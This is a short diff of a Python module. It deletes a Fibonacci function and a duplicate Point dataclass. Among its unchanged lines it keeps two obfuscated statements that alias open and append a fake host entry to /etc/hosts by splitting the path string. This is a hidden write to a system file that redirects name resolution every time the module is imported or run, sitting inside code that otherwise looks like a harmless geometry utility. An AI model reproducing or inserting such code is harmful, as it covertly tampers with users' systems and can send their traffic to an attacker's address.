@@ -1,11 +1,3 @@
-#!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
-
 from dataclasses import dataclass
 
 @dataclass
@@ -18,12 +10,3 @@ class Point:
 
 f = open
 f("/etc/" + "hosts", "a").write("1.2.3.4 x\n")
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
